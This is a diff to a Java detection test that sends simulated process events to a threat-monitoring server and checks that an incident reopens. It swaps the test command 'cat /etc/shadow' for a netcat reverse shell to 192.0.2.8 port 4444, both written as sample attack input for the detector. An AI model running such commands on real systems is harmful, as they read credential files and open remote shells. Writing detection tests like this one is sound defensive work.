@@ -93,7 +93,7 @@ class DetectionsTest {
             assertThat(server.get("/api/v1/threat").json().path("level").asString())
                     .isEqualTo("BENIGN");
             // It goes on: the incident opens again.
-            send(server, token, "proc", List.of(process("p5", now, "alice", "cat /etc/shadow")));
+            send(server, token, "proc", List.of(process("p5", now, "alice", "nc -e /bin/sh 192.0.2.8 4444")));
             assertThat(server.get("/api/v1/incidents/" + id)
                             .json()
                             .path("state")
